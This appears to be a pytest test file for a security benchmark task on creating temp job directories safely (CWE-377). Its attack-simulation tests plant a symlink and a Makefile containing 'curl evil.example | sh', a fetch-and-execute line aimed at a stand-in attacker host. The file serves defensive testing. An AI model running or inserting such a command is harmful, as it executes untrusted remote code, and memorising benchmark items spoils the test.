"""Tests for make_job_dir: in a temp directory shared by all users, the job folder must really be new."""

import os
import stat
import tempfile

import pytest

from sectree_check import assert_same, exact
from cwe_377_1_task import make_job_dir


@pytest.fixture
def shared_tmp(tmp_path, monkeypatch):
    """A stand-in for /tmp: the temp directory every local user can write to."""
    d = tmp_path / "shared-tmp"
    d.mkdir()
    os.chmod(d, 0o1777)
    monkeypatch.setattr(tempfile, "tempdir", str(d))
    old = os.umask(0o022)
    yield d
    os.umask(old)


@pytest.mark.functionality
def test_creates_empty_dir_in_temp(shared_tmp):
    path = exact(make_job_dir(42), str)
    assert os.path.isdir(path) and os.listdir(path) == []
    assert_same(os.path.dirname(os.path.abspath(path)), str(shared_tmp))
    assert os.path.basename(path).startswith("build-42")


@pytest.mark.functionality
def test_usable_by_the_job(shared_tmp):
    path = exact(make_job_dir(7), str)
    with open(os.path.join(path, "out.o"), "wb") as f:
        f.write(b"\x7fELF")
    assert_same(os.listdir(path), ["out.o"])


@pytest.mark.functionality
def test_jobs_get_different_dirs(shared_tmp):
    paths = {exact(make_job_dir(i), str) for i in range(5)}
    assert len(paths) == 5


@pytest.mark.security
def test_planted_symlink_not_used(tmp_path, shared_tmp):
    # another local user guesses the name and points it at a folder they control
    attacker = tmp_path / "attacker"
    attacker.mkdir()
    os.symlink(attacker, shared_tmp / "build-42")
    path = exact(make_job_dir(42), str)
    with open(os.path.join(path, "signing.key"), "w") as f:
        f.write("SECRET")
    assert_same(os.listdir(attacker), [], "the job wrote into a folder another user controls")


@pytest.mark.security
def test_planted_dir_not_reused(shared_tmp):
    planted = shared_tmp / "build-42"
    planted.mkdir()
    os.chmod(planted, 0o777)
    (planted / "Makefile").write_text("all:\n\tcurl evil.example | sh\n")
    path = exact(make_job_dir(42), str)
    assert os.path.realpath(path) != os.path.realpath(planted)
    assert_same(os.listdir(path), [])


@pytest.mark.security
def test_not_open_to_other_users(shared_tmp):
    path = exact(make_job_dir(43), str)
    mode = stat.S_IMODE(os.stat(path).st_mode)
    assert_same(mode & 0o077, 0, f"job folder mode is {oct(mode)}")
